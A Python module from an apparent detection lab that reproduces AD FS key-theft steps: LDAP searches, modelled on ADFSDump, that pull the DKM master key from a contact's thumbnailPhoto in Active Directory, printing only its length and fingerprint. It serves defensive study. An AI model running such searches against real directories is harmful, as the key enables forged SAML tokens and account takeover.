"""AD FS attack steps of the dcwatch lab (the DKM key in Active Directory), run inside a
workstation namespace like lab/attacks.py:

    ip netns exec dcw-ws1 /var/lib/dcwatch-lab/venv/bin/python -m lab.attacks_adfs STEP ...

An AD FS farm keeps its Distributed Key Manager (DKM) master key in AD: a contact object under
CN=<group GUID>,CN=ADFS,CN=Microsoft,CN=Program Data,<domain> whose thumbnailPhoto holds the
32-byte key (ADFSDump, AADInternals, "Golden SAML" write-ups). The searches use a simple bind on
389 (Samba: "ldap server require strong auth = no") so the DC's capture shows base, filter and
attributes. The key itself is never printed: only its length and a short fingerprint.
"""

from __future__ import annotations

import argparse
import hashlib
import sys

from lab.attacks import DC, FQDN_DOMAIN, WORK, out

BASE_DN = "DC=contoso,DC=local"
ADFS_DN = f"CN=ADFS,CN=Microsoft,CN=Program Data,{BASE_DN}"
# ADFSDump (mandiant/ADFSDump, AD.cs): every contact under the ADFS container but CryptoPolicy,
# attribute thumbnailphoto, subtree scope
DUMP_FILTER = "(&(objectClass=contact)(!(cn=CryptoPolicy)))"


def ldap(user: str, password: str):
    """ldap3 connection with a simple bind on plain 389."""
    import ldap3

    server = ldap3.Server(DC, port=389, get_info=ldap3.NONE)
    return ldap3.Connection(server, user=f"{user}@{FQDN_DOMAIN}", password=password,
                            authentication=ldap3.SIMPLE, auto_bind=True)


def keys_of(conn, what: str) -> int:
    """Report the thumbnailPhoto values a search returned (length + fingerprint only)."""
    found = 0
    for e in conn.response or []:
        if e.get("type") != "searchResEntry":
            continue
        for v in e["raw_attributes"].get("thumbnailPhoto", []):
            found += 1
            out(f"{what}: {e['dn']}: thumbnailPhoto {len(v)} bytes "
                f"(sha256 {hashlib.sha256(v).hexdigest()[:12]}...)")
    r = conn.result
    out(f"{what}: {r['description']}, {found} key value(s)")
    return found


def step_dkm_service_read(args):
    """The farm's service account loads the DKM key: it reads the CryptoPolicy contact of its
    DKM group container, then the group's key contacts with thumbnailPhoto (one level under
    the group container)."""
    import ldap3

    conn = ldap(args.user, args.password)
    group = f"CN={args.group},{ADFS_DN}"
    conn.search(f"CN=CryptoPolicy,{group}", "(objectClass=contact)",
                search_scope=ldap3.BASE, attributes=["displayName", "whenChanged"])
    out(f"CryptoPolicy read: {conn.result['description']}, {len(conn.entries)} entry")
    conn.search(group, "(&(objectClass=contact)(thumbnailPhoto=*))",
                search_scope=ldap3.LEVEL, attributes=["thumbnailPhoto", "l", "whenCreated"])
    if not keys_of(conn, f"DKM key read as {args.user}"):
        raise SystemExit("the service account could not read the DKM key")
    conn.unbind()


def step_adfsdump_ldap(args):
    """ADFSDump's /domain key extraction over LDAP: subtree search of the ADFS container for
    every contact but CryptoPolicy, asking for thumbnailphoto."""
    import ldap3

    conn = ldap(args.user, args.password)
    conn.search(ADFS_DN, DUMP_FILTER, search_scope=ldap3.SUBTREE,
                attributes=["thumbnailphoto"])
    keys_of(conn, f"ADFSDump-style search as {args.user}")
    conn.unbind()


STEPS = {name[5:]: fn for name, fn in globals().items() if name.startswith("step_")}


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(prog="python -m lab.attacks_adfs")
    ap.add_argument("step", choices=sorted(STEPS))
    ap.add_argument("--user", default="")
    ap.add_argument("--password", default="")
    ap.add_argument("--group", default="", help="the DKM group container's GUID name")
    args = ap.parse_args(argv)
    WORK.mkdir(parents=True, exist_ok=True)
    STEPS[args.step](args)
    return 0


if __name__ == "__main__":
    sys.exit(main())
